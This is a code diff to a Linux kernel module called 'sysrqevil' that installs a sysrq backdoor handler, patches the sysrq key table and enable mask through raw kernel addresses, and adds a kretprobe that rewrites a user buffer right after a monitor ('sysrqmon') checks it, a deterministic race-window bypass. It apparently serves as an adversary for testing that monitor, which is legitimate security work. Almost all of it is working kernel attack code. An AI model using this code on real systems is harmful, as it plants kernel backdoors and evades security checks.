@@ -10,9 +10,19 @@
  *   act=handle key=C           handle_sysrq(C)
  *   act=rawmask mask=N addr=A  write N to the mask at A (sysrq_enabled)
  *   act=rawkey key=C addr=A    put the backdoor in slot C of the table at A
+ *   act=flip key=C comm=NAME   rewrite a task's one-byte buffer to C right
+ *                              after a checker read it
+ *
+ * flip is the deterministic form of a thread rewriting the trigger buffer:
+ * when a task named NAME has a single byte read by copy_from_user_nofault()
+ * (sysrqmon's write-time check), the byte becomes C before the kernel reads
+ * it again, exactly inside the window a racing thread hits only sometimes.
  */
+#include <linux/kprobes.h>
 #include <linux/module.h>
+#include <linux/sched.h>
 #include <linux/sysrq.h>
+#include <linux/uaccess.h>
 
 static char *act = "";
 module_param(act, charp, 0444);
@@ -26,6 +36,9 @@ MODULE_PARM_DESC(key, "command key for register, handle and rawkey");
 static unsigned long addr;
 module_param(addr, ulong, 0444);
 MODULE_PARM_DESC(addr, "kernel address for rawmask and rawkey (from /proc/kallsyms)");
+static char *comm = "";
+module_param(comm, charp, 0444);
+MODULE_PARM_DESC(comm, "task name whose buffer flip rewrites");
 
 static void backdoor(int k)
 {
@@ -42,6 +55,44 @@ static const struct sysrq_key_op backdoor_op = {
 static bool registered;
 static const struct sysrq_key_op **raw_slot;
 static const struct sysrq_key_op *raw_saved;
+
+static atomic_t flips = ATOMIC_INIT(0);
+
+struct flip_read {
+	const void __user *src;
+};
+
+/* long copy_from_user_nofault(void *dst, const void __user *src, size_t size) */
+static int flip_entry(struct kretprobe_instance *ri, struct pt_regs *regs)
+{
+	struct flip_read *read = (struct flip_read *)ri->data;
+
+	if (regs_get_kernel_argument(regs, 2) != 1 ||
+	    strcmp(current->comm, comm))
+		return 1;
+	read->src = (const void __user *)regs_get_kernel_argument(regs, 1);
+	return 0;
+}
+
+static int flip_return(struct kretprobe_instance *ri, struct pt_regs *regs)
+{
+	struct flip_read *read = (struct flip_read *)ri->data;
+
+	if (!regs_return_value(regs) &&
+	    !copy_to_user_nofault((void __user *)read->src, key, 1))
+		atomic_inc(&flips);
+	return 0;
+}
+
+static struct kretprobe flip_probe = {
+	.kp.symbol_name = "copy_from_user_nofault",
+	.entry_handler = flip_entry,
+	.handler = flip_return,
+	.data_size = sizeof(struct flip_read),
+	.maxactive = 8,
+};
+
+static bool flip_armed;
 
 static int slot_of(int c)
 {
@@ -71,6 +122,9 @@ static int __init sysrqevil_init(void)
 		raw_slot = (const struct sysrq_key_op **)addr + slot_of(c);
 		raw_saved = READ_ONCE(*raw_slot);
 		WRITE_ONCE(*raw_slot, &backdoor_op);
+	} else if (!strcmp(act, "flip") && comm[0]) {
+		ret = register_kretprobe(&flip_probe);
+		flip_armed = !ret;
 	} else {
 		pr_err("sysrqevil: bad act=%s\n", act);
 		return -EINVAL;
@@ -85,8 +139,10 @@ static void __exit sysrqevil_exit(void)
 		unregister_sysrq_key(key[0], &backdoor_op);
 	if (raw_slot && READ_ONCE(*raw_slot) == &backdoor_op)
 		WRITE_ONCE(*raw_slot, raw_saved);
+	if (flip_armed)
+		unregister_kretprobe(&flip_probe);
 	synchronize_rcu();
-	pr_info("sysrqevil: unloaded\n");
+	pr_info("sysrqevil: unloaded flips=%d\n", atomic_read(&flips));
 }
 
 module_init(sysrqevil_init);
